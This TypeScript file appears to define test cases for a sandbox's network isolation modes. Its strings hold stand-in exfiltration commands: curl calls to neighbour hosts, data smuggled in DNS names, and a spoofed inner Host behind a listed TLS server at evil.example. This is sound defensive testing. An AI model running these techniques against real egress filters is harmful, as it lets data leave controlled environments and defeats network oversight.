import type { Attack } from "../attack.ts";
import { arrived, isInside } from "../outside-names.ts";
import { throughToHost } from "./network.ts";
import { leading, type Observed, type Through, through, toHost, unlisted } from "./network-observed.ts";

const group = "network reachability" as const;
const blindFilter = "a filter that checks nothing" as const;
const bridge = "the engine's bridge" as const;
const modes = ["public", "strict", "none"] as const;

const ownNetwork = "leads into this machine's own network";

/** Machines with public addresses in a network that this host is in. */
const neighbours: readonly Through[] = [
  [
    "a name that leads to a neighbour with a public address",
    "secure neighbour.outside.example:443",
    isInside,
    ownNetwork,
  ],
  [
    "a name that leads to the internet and to such a neighbour",
    "for n in 1 2 3 4 5 6; do secure mixed-neighbour.outside.example:443; done",
    isInside,
    ownNetwork,
  ],
  [
    "plain HTTP to a name that leads to such a neighbour",
    'curl -s -m 8 "http://neighbour.outside.example/mark-$SIGN"',
    isInside,
    ownNetwork,
  ],
];

const askNeighbour = `curl -s -m 8 --noproxy '*' "http://$BESIDE/mark-$SIGN"`;
const lookedUp: readonly (readonly [string, string])[] = [
  ["smuggle data in a name that the filter looks up", "secure $SIGN.wild.outside.example:443"],
  ["smuggle data in a name below a listed `*.` pattern", "secure $SIGN.wild.outside.example:443"],
  [
    "another Host inside the TLS of a listed server",
    "INNER_HOST=$SIGN.evil.example secure listed.outside.example:443",
  ],
];

/** Held in every mode that hides the network. */
const held: readonly Observed[] = [
  ...modes.flatMap((network) => [
    {
      ...{ group, network, words: `${network}: ask a neighbour with a public address` },
      ...{ inside: askNeighbour, weakening: bridge },
    },
    ...through(network, neighbours),
  ]),
  ...through("strict", leading),
  ...through("none", [...leading, ...unlisted]),
  ...lookedUp.map(([words, inside]) => ({
    ...{ group, network: "none" as const, words: `none: ${words}`, inside, weakening: blindFilter },
  })),
];

const open: readonly Observed[] = [
  {
    ...{ group, network: "public", words: "public: another Host inside the TLS of a listed server" },
    inside: "INNER_HOST=$SIGN.evil.example secure listed.outside.example:443",
    ...{ weakening: blindFilter, ours: "open" },
    why: "the filter does not open TLS; a server that serves others' names answers under its own",
  },
  {
    ...{ group, network: "open", words: "open: ask a neighbour with a public address" },
    ...{ inside: askNeighbour, weakening: bridge, ours: "open", why: "`open` is the engine's own bridge" },
  },
];

/** Of this host: its own services are the observers. */
const ownServices = (["strict", "none"] as const).flatMap((network) => [
  ...toHost(network).map((attack) => ({ ...attack, needsOutside: true })),
  ...throughToHost.map(([words, inside]) => ({
    ...{ group, network, words: `${network}, through the filter, to this host: ${words}`, inside },
    weakening: blindFilter,
  })),
]);

/** What is tried in one mode in network.ts and network-observed.ts, in the others. */
export const networkInModes: Attack[] = [
  ...[...held, ...open].map(({ counts, ...attack }, index) => {
    const id = `NET-${301 + index}`;
    const isForReport = attack.network === "none";
    return { ...attack, id, needsOutside: true, isForReport, after: arrived(id, counts) };
  }),
  ...ownServices.map((attack, index) => ({ ...attack, id: `NET-${401 + index}`, isForReport: true })),
];
